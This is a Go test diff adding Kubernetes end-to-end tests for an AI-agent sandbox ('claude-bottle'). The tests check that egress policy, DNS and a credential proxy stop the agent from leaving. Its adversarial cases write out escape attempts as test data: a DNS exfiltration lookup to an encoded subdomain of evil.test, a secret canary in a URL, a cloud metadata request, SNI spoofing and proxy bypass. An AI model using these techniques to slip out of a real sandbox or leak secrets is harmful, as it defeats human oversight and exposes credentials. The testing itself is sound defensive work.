@@ -4,14 +4,21 @@ package kubernetes
 
 import (
 	"context"
+	"encoding/json"
+	"fmt"
+	"io"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/util/intstr"
 
+	"github.com/claude-bottle/claude-bottle/e2e/e2etest"
 	"github.com/claude-bottle/claude-bottle/internal/backend"
 	"github.com/claude-bottle/claude-bottle/internal/backend/kubernetes/kubetest"
 	"github.com/claude-bottle/claude-bottle/internal/manifest"
@@ -19,17 +26,133 @@ import (
 	"github.com/claude-bottle/claude-bottle/internal/stage"
 )
 
-// Tier 3, alone (go test -tags tier3, as .ci/run's step runs it, with the
-// images built from this checkout first: claude-bottle images build): the
-// bottle on a real
-// kubelet, under runc (docs/kubernetes.md says why not gVisor here). The
-// agent's output comes back from its first line with its exit code; its
-// resolver and hosts file are egress's and the sidecars' Services; egress
-// refuses a host the allowlist lacks and says why, its DNS stub answers
-// nothing for it; cred-proxy explains a refusal; Down removes it all.
+// Tier 3, alone (go test -tags tier3, as .ci/run's step runs it): bottles
+// on a real kubelet under runc (docs/kubernetes.md says why not gVisor
+// here), with NetworkPolicies enforced by kube-network-policies and a
+// cluster DNS. One node for every subtest; the fixtures are pods in the
+// "fixtures" namespace behind Services at fixed addresses, named by the
+// cluster DNS as *.test, like the Docker suites' upstreams:
+//
+//   - bottle: the backend's own view (output, exit code, resolver, hosts,
+//     egress and cred-proxy refusals, the decision log on the host).
+//   - policy: the agent cannot go around egress (direct to a fixture's
+//     pod or Service address, or the node), while a pod without our
+//     policies can: what stops the agent is the NetworkPolicy.
+//   - egress: the adversarial subset through `claude-bottle run --backend
+//     kubernetes`, including a host the allowlist has but egress_peers
+//     lacks, which the NetworkPolicy stops below the proxy.
+//   - claude: the real Claude Code, interactive under tmux, reaching the
+//     scripted model through cred-proxy and egress and running a tool in
+//     the bottle; /exit ends run with Claude's code and leaves nothing.
 func TestTier3RealPods(t *testing.T) {
+	c := e2etest.Engine(t)
+	e2etest.Images(t)
+	dnsImage := e2etest.GoImage(t, c, "clusterdns")
+	upstreamImage := e2etest.GoImage(t, c, "egress-upstream")
+	modelImage := e2etest.GoImage(t, c, "fakeanthropic")
+
 	plane := kubetest.Cluster(t)
-	kubetest.Node(t, plane, "claude-bottle-sidecar:local", "claude-bottle-agent:local")
+	kubetest.Node(t, plane, "claude-bottle-sidecar:local", "claude-bottle-agent:local", dnsImage, upstreamImage, modelImage)
+	kubetest.ClusterDNS(t, plane, dnsImage, map[string]string{
+		"allowed.test": fixtureIP["allowed"], "evil.test": fixtureIP["evil"], "other.test": fixtureIP["other"], "model.test": fixtureIP["model"],
+	})
+	ctx := context.Background()
+	if _, err := plane.Client.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: fixturesNS}}, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"allowed", "evil", "other"} {
+		fixture(t, plane, name, upstreamImage, []corev1.EnvVar{{Name: "FIXTURE_NAME", Value: name}}, 8080, 8443, 443)
+	}
+
+	t.Run("bottle", func(t *testing.T) { tier3Bottle(t, plane) })
+	t.Run("policy", func(t *testing.T) { tier3Policy(t, plane) })
+	t.Run("egress", func(t *testing.T) { tier3Egress(t, plane) })
+	t.Run("claude", func(t *testing.T) { tier3Claude(t, plane, modelImage) })
+}
+
+const fixturesNS = "fixtures"
+
+// fixtureIP: each fixture's Service address, fixed so that the cluster
+// DNS can name it before it exists.
+var fixtureIP = map[string]string{"allowed": "10.96.100.1", "evil": "10.96.100.2", "other": "10.96.100.3", "model": "10.96.100.4"}
+
+// fixture runs image as pod NAME (label app=NAME) in the fixtures
+// namespace behind Service NAME at fixtureIP[NAME].
+func fixture(t *testing.T, p *kubetest.Plane, name, image string, env []corev1.EnvVar, ports ...int32) *corev1.Pod {
+	t.Helper()
+	labels := map[string]string{"app": name}
+	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: fixturesNS},
+		Spec: corev1.ServiceSpec{ClusterIP: fixtureIP[name], Selector: labels}}
+	for _, port := range ports {
+		svc.Spec.Ports = append(svc.Spec.Ports, corev1.ServicePort{Name: fmt.Sprint("p", port), Port: port, TargetPort: intstr.FromInt32(port)})
+	}
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: fixturesNS, Labels: labels},
+		Spec: corev1.PodSpec{SecurityContext: kubetest.LowPorts(), Containers: []corev1.Container{{Name: "app", Image: image, ImagePullPolicy: corev1.PullNever, Env: env}}}}
+	return kubetest.RunPod(t, p, pod, svc)
+}
+
+// podLog is a fixture pod's output so far.
+func podLog(t *testing.T, p *kubetest.Plane, ns, name string) string {
+	t.Helper()
+	rc, err := p.Client.CoreV1().Pods(ns).GetLogs(name, &corev1.PodLogOptions{}).Stream(context.Background())
+	if err != nil {
+		t.Fatalf("logs of %s/%s: %v", ns, name, err)
+	}
+	defer rc.Close()
+	b, _ := io.ReadAll(rc)
+	return string(b)
+}
+
+// oneShot runs cmd in a pod of the agent's image in ns (no policy there)
+// to its end and returns its output.
+func oneShot(t *testing.T, p *kubetest.Plane, ns, name, script string) string {
+	t.Helper()
+	ctx := context.Background()
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
+		Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "c", Image: "claude-bottle-agent:local",
+			ImagePullPolicy: corev1.PullNever, Command: []string{"sh", "-c", script}}}}}
+	if _, err := p.Client.CoreV1().Pods(ns).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	defer p.Client.CoreV1().Pods(ns).Delete(context.Background(), name, metav1.DeleteOptions{})
+	deadline := time.Now().Add(2 * time.Minute)
+	for {
+		got, err := p.Client.CoreV1().Pods(ns).Get(ctx, name, metav1.GetOptions{})
+		if err == nil && (got.Status.Phase == corev1.PodSucceeded || got.Status.Phase == corev1.PodFailed) {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("pod %s/%s did not end: %v", ns, name, err)
+		}
+		time.Sleep(300 * time.Millisecond)
+	}
+	return podLog(t, p, ns, name)
+}
+
+// tier3Env is a CLI env for the tier-3 cluster: the manifest, the
+// kubeconfig, runc (the node has no gVisor) and a pinned instance name.
+func tier3Env(t *testing.T, p *kubetest.Plane, manifestText string) (*e2etest.Env, string) {
+	e := e2etest.NewEnv(t, manifestText)
+	e.Vars["KUBECONFIG"] = p.Kubeconfig
+	e.Vars["CLAUDE_BOTTLE_RUNTIME"] = "runc"
+	inst := e2etest.Unique("cbt-k3")
+	e.Vars["CLAUDE_BOTTLE_CONTAINER"] = inst
+	return e, inst
+}
+
+// namespaceGone fails unless instance's namespace is gone from the cluster
+// and its stage directory from the host.
+func namespaceGone(t *testing.T, p *kubetest.Plane, state, instance string) {
+	t.Helper()
+	if _, err := p.Client.CoreV1().Namespaces().Get(context.Background(), instance, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
+		t.Errorf("namespace %s is still there (%v)", instance, err)
+	}
+	if _, err := os.Stat(stage.InstanceDir(state, instance)); !os.IsNotExist(err) {
+		t.Errorf("the stage directory of %s is still there (%v)", instance, err)
+	}
+}
+
+func tier3Bottle(t *testing.T, plane *kubetest.Plane) {
 	ctx := t.Context()
 	b := newTestBackend(t, plane.Config, 3*time.Minute)
 	m := manifest.Default()
@@ -79,5 +202,270 @@ curl -m 20 -sS -x "" http://cred-proxy:8080/nothing-here; exit 7`
 	if !mirrored() {
 		c, _ := os.ReadFile(egressLog)
 		t.Errorf("the host's egress log lacks the refusal:\n%s", c)
+	}
+}
+
+// probe prints what a direct TCP connection to each target did.
+const probe = `for t in "$@"; do
+  if curl -sS -m 4 --noproxy '*' -o /dev/null "http://$t/" 2>/dev/null; then echo "reach $t open"; else echo "reach $t closed"; fi
+done`
+
+func tier3Policy(t *testing.T, plane *kubetest.Plane) {
+	allowed, err := plane.Client.CoreV1().Pods(fixturesNS).Get(context.Background(), "allowed", metav1.GetOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	targets := []string{allowed.Status.PodIP + ":8080", fixtureIP["allowed"] + ":8080", kubetest.NodeIP + ":10250"}
+	script := "set -- " + strings.Join(targets, " ") + "\n" + probe
+
+	// The control: a pod under no policy reaches the fixture both ways.
+	control := oneShot(t, plane, fixturesNS, "control", script)
+	for _, tg := range targets[:2] {
+		if !strings.Contains(control, "reach "+tg+" open") {
+			t.Fatalf("a pod without policies cannot reach %s, so the test proves nothing:\n%s", tg, control)
+		}
+	}
+
+	before := strings.Count(podLog(t, plane, fixturesNS, "allowed"), "conn ")
+	e, inst := tier3Env(t, plane, "backend: kubernetes\nagents:\n  agent:\n    bottle: box\nbottles:\n  box: {}\n")
+	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
+	defer cancel()
+	r := e.Run(ctx, "run", "agent", "--", "sh", "-c", script+"\necho probes-done")
+	t.Logf("the agent printed:\n%s", r.Stdout)
+	if r.Code != 0 || !strings.Contains(r.Stdout, "probes-done") {
+		t.Fatalf("run: %s", r)
+	}
+	for _, tg := range targets {
+		if !strings.Contains(r.Stdout, "reach "+tg+" closed") {
+			t.Errorf("the agent reached %s around egress", tg)
+		}
+	}
+	namespaceGone(t, plane, e.State, inst)
+	// The fixture's own record: no connection from the agent arrived.
+	if l := podLog(t, plane, fixturesNS, "allowed"); strings.Count(l, "conn ") != before {
+		t.Errorf("allowed.test recorded a connection during the agent's run:\n%s", l)
+	}
+}
+
+const tier3EgressManifest = `backend: kubernetes
+agents:
+  agent:
+    bottle: box
+bottles:
+  box:
+    kubernetes:
+      egress_peers:
+        - namespace: fixtures
+          pods: {app: allowed}
+        - namespace: fixtures
+          pods: {app: other}
+          ports: [8443]
+    egress:
+      allow:
+        - {host: allowed.test, port: 8080, allow_private: true}
+        - {host: allowed.test, port: 8443, allow_private: true}
+        # In the allowlist, not in egress_peers: the NetworkPolicy stops it.
+        - {host: evil.test, port: 8080, allow_private: true}
+        # In egress_peers, without allow_private: the proxy stops it.
+        - {host: other.test, port: 8443}
+    cred_proxy:
+      routes:
+        - name: api
+          path: /api/
+          upstream: https://api.canary.test
+          credentials:
+            - env: E2E_TOKEN
+              header: Authorization
+              format: "Bearer {token}"
+`
+
+// The egress adversarial subset, as the Docker suite's (e2e/egress) but
+// through the cluster: each case one line, then the decision log and the
+// upstreams' own records.
+func tier3Egress(t *testing.T, plane *kubetest.Plane) {
+	e, inst := tier3Env(t, plane, tier3EgressManifest)
+	token := "sk-canary-" + strings.TrimPrefix(e2etest.Unique("x"), "x-") + "c0ffee42"
+	e.Vars["E2E_TOKEN"] = token
+	const hint = "ask with the supervise tool request_egress"
+	cases := []struct {
+		name, cmd string
+		want, not []string
+	}{
+		{"allowed-http", `hc http://allowed.test:8080/`, []string{"code=200", "upstream allowed reached as allowed.test:8080"}, nil},
+		{"allowed-https", `hc -k https://allowed.test:8443/`, []string{"code=200", "connect=200", "upstream allowed reached as allowed.test:8443"}, nil},
+		{"not-in-allowlist", `hc http://nowhere.test:8080/`, []string{"code=403", "not in the allowlist", hint}, nil},
+		{"wrong-port", `hc http://allowed.test:9999/`, []string{"code=403", "port not in the allowlist for this host"}, nil},
+		{"ip-literal", `hc http://` + fixtureIP["allowed"] + `:8080/`, []string{"code=403", "ip literal"}, []string{"upstream"}},
+		{"metadata", `hc http://169.254.169.254/latest/meta-data/`, []string{"code=403", "ip literal"}, nil},
+		{"private-without-allow-private", `hc -k https://other.test:8443/`, []string{"connect=403"}, []string{"upstream"}},
+		{"allowlisted-but-not-a-peer", `hc -m 60 http://evil.test:8080/`, nil, []string{"code=200", "upstream"}},
+		{"sni-mismatch", `hc -k --connect-to other.test:8443:allowed.test:8443 https://other.test:8443/`, nil, []string{"code=200", "upstream"}},
+		{"canary-in-url", `hc 'http://allowed.test:8080/?q=` + token + `'`, []string{"code=403", "(secret canary)"}, nil},
+		{"direct-name-no-proxy", `hc --noproxy '*' http://allowed.test:8080/`, []string{"code=000"}, []string{"upstream"}},
+		{"dns-exfiltration", `getent hosts dghllxnly3jldc1wbgfucw.evil.test >/dev/null && echo dns=answered || echo dns=failed`, []string{"dns=failed"}, nil},
+	}
+	var script strings.Builder
+	script.WriteString(`hc() { rm -f /tmp/body; out=$(curl -sS -m 30 -o /tmp/body -w 'code=%{http_code} connect=%{http_connect}' "$@" 2>/tmp/err); ex=$?; echo "$out exit=$ex body=$(head -c 400 /tmp/body 2>/dev/null | tr '\n' ' ')"; }` + "\n")
+	for _, k := range cases {
+		fmt.Fprintf(&script, "echo \"case %s $(%s)\"\n", k.name, k.cmd)
+	}
+	script.WriteString("echo suite-done\n")
+	ctx, cancel := context.WithTimeout(context.Background(), 6*time.Minute)
+	defer cancel()
+	r := e.Run(ctx, "run", "agent", "--", "sh", "-c", script.String())
+	if r.Code != 0 || !strings.Contains(r.Stdout, "suite-done") {
+		t.Fatalf("agent script: %s", r)
+	}
+	namespaceGone(t, plane, e.State, inst)
+	lines := map[string]string{}
+	for _, l := range strings.Split(r.Stdout, "\n") {
+		if rest, ok := strings.CutPrefix(l, "case "); ok {
+			name, out, _ := strings.Cut(rest, " ")
+			lines[name] = out
+		}
+	}
+	for _, k := range cases {
+		out, ok := lines[k.name]
+		if !ok {
+			t.Errorf("%s: no outcome line", k.name)
+			continue
+		}
+		for _, w := range k.want {
+			if !strings.Contains(out, w) {
+				t.Errorf("%s: outcome lacks %q: %s", k.name, w, out)
+			}
+		}
+		for _, n := range k.not {
+			if strings.Contains(out, n) {
+				t.Errorf("%s: outcome has %q: %s", k.name, n, out)
+			}
+		}
+	}
+
+	// The decision log, on the host after the bottle is gone, through
+	// `logs`: each refusal with its reason, the allowed requests with
+	// their rule, no credential.
+	lr := e.Run(ctx, "logs", inst)
+	if lr.Code != 0 {
+		t.Fatalf("logs %s: %s", inst, lr)
+	}
+	for _, want := range []string{`"reason":"not in the allowlist"`, `"reason":"port not in the allowlist for this host"`, `"reason":"ip literal`,
+		`"reason":"resolves to a private address`, `"reason":"sni mismatch"`, `"reason":"secret canary"`,
+		`"reason":"the bottle resolves only its own names"`, `"verdict":"allow"`, `"rule":"allowed.test:8080`} {
+		if !strings.Contains(lr.Stdout, want) {
+			t.Errorf("`logs %s` lacks %s", inst, want)
+		}
+	}
+	if strings.Contains(lr.Stdout, token) {
+		t.Errorf("`logs %s` shows the credential", inst)
+	}
+	if t.Failed() {
+		t.Logf("agent output:\n%s\nlogs:\n%s", r.Stdout, lr.Stdout)
+	}
+
+	// The upstreams' records: evil.test (allowlisted, not a peer) was
+	// never reached: the NetworkPolicy held below the proxy; other.test
+	// got no request; allowed.test no credential.
+	for _, name := range []string{"evil", "other"} {
+		if l := podLog(t, plane, fixturesNS, name); strings.Contains(l, "conn ") {
+			t.Errorf("upstream %s.test was reached:\n%s", name, l)
+		}
+	}
+	al := podLog(t, plane, fixturesNS, "allowed")
+	if strings.Contains(al, token) {
+		t.Errorf("the credential reached allowed.test")
+	}
+	if !strings.Contains(al, `host="allowed.test:8080"`) {
+		t.Errorf("allowed.test recorded no request:\n%s", al)
+	}
+}
+
+const tier3ClaudeManifest = `backend: kubernetes
+agents:
+  claude:
+    bottle: box
+bottles:
+  box:
+    kubernetes:
+      egress_peers:
+        - namespace: fixtures
+          pods: {app: model}
+          ports: [8080]
+    egress:
+      allow:
+        - {host: model.test, port: 8080, allow_private: true}
+    cred_proxy:
+      routes:
+        - name: model
+          path: /anthropic/
+          upstream: http://model.test:8080
+          role: anthropic-base-url
+          credentials:
+            - env: E2E_API_KEY
+              header: x-api-key
+              format: "{token}"
+`
+
+// The real Claude Code in a cluster bottle, as a person runs it: an
+// interactive `claude-bottle run` under tmux reaches Claude's prompt with
+// no question, a typed prompt makes the scripted model's Bash tool run in
+// the bottle, the model gets the injected key (never the placeholder), and
+// /exit ends run with Claude's 0 and leaves no namespace.
+func tier3Claude(t *testing.T, plane *kubetest.Plane, modelImage string) {
+	const key = "sk-e2e-tier3-key-0123456789abcdef"
+	script, err := json.Marshal([]map[string]any{
+		{"tool": "Bash", "input": map[string]any{"command": "echo TIER3-$((6*7)) in $(hostname)"}},
+		{"text": "TIER3-DONE"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fixture(t, plane, "model", modelImage, []corev1.EnvVar{{Name: "EXPECT_HEADER", Value: "x-api-key"}, {Name: "EXPECT_VALUE", Value: key},
+		{Name: "FAKE_SCRIPT", Value: string(script)}, {Name: "ANSWER_TEXT", Value: "TIER3-ANSWER"}}, 8080)
+	e, inst := tier3Env(t, plane, tier3ClaudeManifest)
+	e.Vars["E2E_API_KEY"] = key
+	env := map[string]string{"CLAUDE_BOTTLE_STATE_DIR": e.State}
+	for k, v := range e.Vars {
+		env[k] = v
+	}
+	term := e2etest.StartTerminal(t, e.Dir, env, e.Bin, "run")
+	screen := term.WaitFor("bypass permissions on", 4*time.Minute)
+	for _, q := range []string{"Do you want to use this API key", "trust", "Unable to connect", "Select login method"} {
+		if strings.Contains(screen, q) {
+			t.Errorf("the first screen asks or fails (%q):\n%s", q, screen)
+		}
+	}
+	term.Type("say where you run")
+	term.WaitFor("TIER3-DONE", 3*time.Minute)
+	term.Type("/exit")
+	if code := term.ExitCode(2 * time.Minute); code != 0 {
+		t.Errorf("run exited %d after /exit, want Claude's 0:\n%s", code, term.Screen())
+	}
+	namespaceGone(t, plane, e.State, inst)
+
+	var ran, requests int
+	for _, l := range strings.Split(podLog(t, plane, fixturesNS, "model"), "\n") {
+		var rec struct {
+			Path        string   `json:"path"`
+			OK          bool     `json:"ok"`
+			Placeholder bool     `json:"placeholder"`
+			ToolResults []string `json:"tool_results"`
+		}
+		if json.Unmarshal([]byte(l), &rec) != nil || !strings.HasPrefix(rec.Path, "/v1/messages") {
+			continue
+		}
+		requests++
+		if !rec.OK || rec.Placeholder {
+			t.Errorf("the model got a request without the injected key: %s", l)
+		}
+		for _, tr := range rec.ToolResults {
+			// The tool ran in the agent's pod (hostname: the Sandbox's).
+			if strings.Contains(tr, "TIER3-42 in ") {
+				ran++
+			}
+		}
+	}
+	if requests == 0 || ran == 0 {
+		t.Errorf("the model saw %d requests, %d with the Bash tool's output", requests, ran)
 	}
 }
